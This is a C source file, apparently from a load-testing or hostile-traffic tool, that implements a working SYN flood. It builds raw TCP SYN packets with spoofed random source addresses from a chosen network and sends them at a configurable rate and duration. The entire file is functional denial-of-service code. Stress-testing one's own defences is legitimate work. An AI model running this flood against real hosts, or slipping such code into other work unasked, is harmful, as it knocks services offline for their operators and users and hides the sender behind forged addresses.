// SPDX-License-Identifier: MIT
/*
 * syn.c - half-open connections: SYNs by a raw socket, from addresses that answer nobody.
 */
#include "load/hostile.h"

#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BURSTS 100 /* a second */

struct packet {
	struct iphdr ip;
	struct tcphdr tcp;
};

static uint32_t sum_words(const void *data, size_t len)
{
	const uint8_t *at = data;
	uint32_t sum = 0;

	for (size_t i = 0; i + 1 < len; i += 2)
		sum += (uint32_t)at[i] << 8 | at[i + 1];
	return sum;
}

static uint16_t checksum(const struct packet *packet)
{
	uint32_t sum = sum_words(&packet->tcp, sizeof(packet->tcp));

	sum += sum_words(&packet->ip.saddr, 8) + IPPROTO_TCP + sizeof(packet->tcp);
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

static struct packet make(const struct sockaddr_in *to, struct in_addr network)
{
	struct packet packet = {0};

	packet.ip.version = 4;
	packet.ip.ihl = 5;
	packet.ip.ttl = 64;
	packet.ip.protocol = IPPROTO_TCP;
	packet.ip.saddr = network.s_addr | htonl((uint32_t)random() & 0xffff);
	packet.ip.daddr = to->sin_addr.s_addr;
	packet.tcp.source = htons((uint16_t)(1024 + random() % 60000));
	packet.tcp.dest = to->sin_port;
	packet.tcp.seq = (uint32_t)random();
	packet.tcp.doff = 5;
	packet.tcp.syn = 1;
	packet.tcp.window = htons(64240);
	packet.tcp.check = checksum(&packet);
	return packet;
}

int syn_flood(const struct sockaddr_in *to, struct in_addr network, uint32_t rate,
	      uint32_t seconds)
{
	const int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
	struct timespec due;
	uint64_t sent = 0;

	if (fd < 0) {
		perror("hostile syn");
		return 1;
	}
	(void)clock_gettime(CLOCK_MONOTONIC, &due);
	for (uint32_t burst = 0; burst < seconds * BURSTS; burst++) {
		for (uint32_t i = 0; i < rate / BURSTS; i++) {
			const struct packet packet = make(to, network);

			sent += sendto(fd, &packet, sizeof(packet), 0,
				       (const struct sockaddr *)to, sizeof(*to)) > 0;
		}
		due.tv_nsec += 1000000000 / BURSTS;
		if (due.tv_nsec >= 1000000000) {
			due.tv_nsec -= 1000000000;
			due.tv_sec++;
		}
		(void)clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &due, NULL);
	}
	(void)close(fd);
	printf("{\"sent\":%llu}\n", (unsigned long long)sent);
	return 0;
}
